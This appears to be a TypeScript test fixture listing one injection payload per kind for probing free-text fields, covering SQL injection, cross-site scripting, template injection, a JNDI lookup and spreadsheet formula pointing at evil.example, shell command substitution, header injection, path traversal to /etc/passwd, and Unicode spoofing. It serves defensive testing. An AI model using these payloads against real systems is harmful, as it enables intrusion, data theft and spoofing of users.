/** One example of each kind of injection; short enough for every field with free text. */
export const INJECTIONS: readonly (readonly [string, string])[] = [
  ['SQL', `'; drop table member; --`],
  ['SQL that is always true', `x' or '1'='1`],
  ['a script', `<script>window.ran=1</script>`],
  ['a handler', `"><img src=x onerror=window.ran=1>`],
  ['an address that runs', `javascript:window.ran=1`],
  ['templates', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'],
  ['a lookup', '${jndi:ldap://evil.example/a}'],
  ['a shell', '$(id) `id` ; id | id'],
  ['a header', 'x\r\nSet-Cookie: session=1'],
  ['a path', '../../../../etc/passwd%00.png'],
  ['a formula', '=HYPERLINK("https://evil.example","x")'],
  ['a member of every object', '__proto__'],
  ['text from right to left', '\u202Egnp.exe\u202C'],
  ['what nobody sees', 'a\u200Bb\uFEFFc'],
  ['an emoji of several', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}'],
];

/** Input that no field stores. */
export const NEVER_STORED: readonly (readonly [string, string])[] = [
  ['the character 0', 'a\0b'],
  ['far too much', 'x'.repeat(20_000)],
];
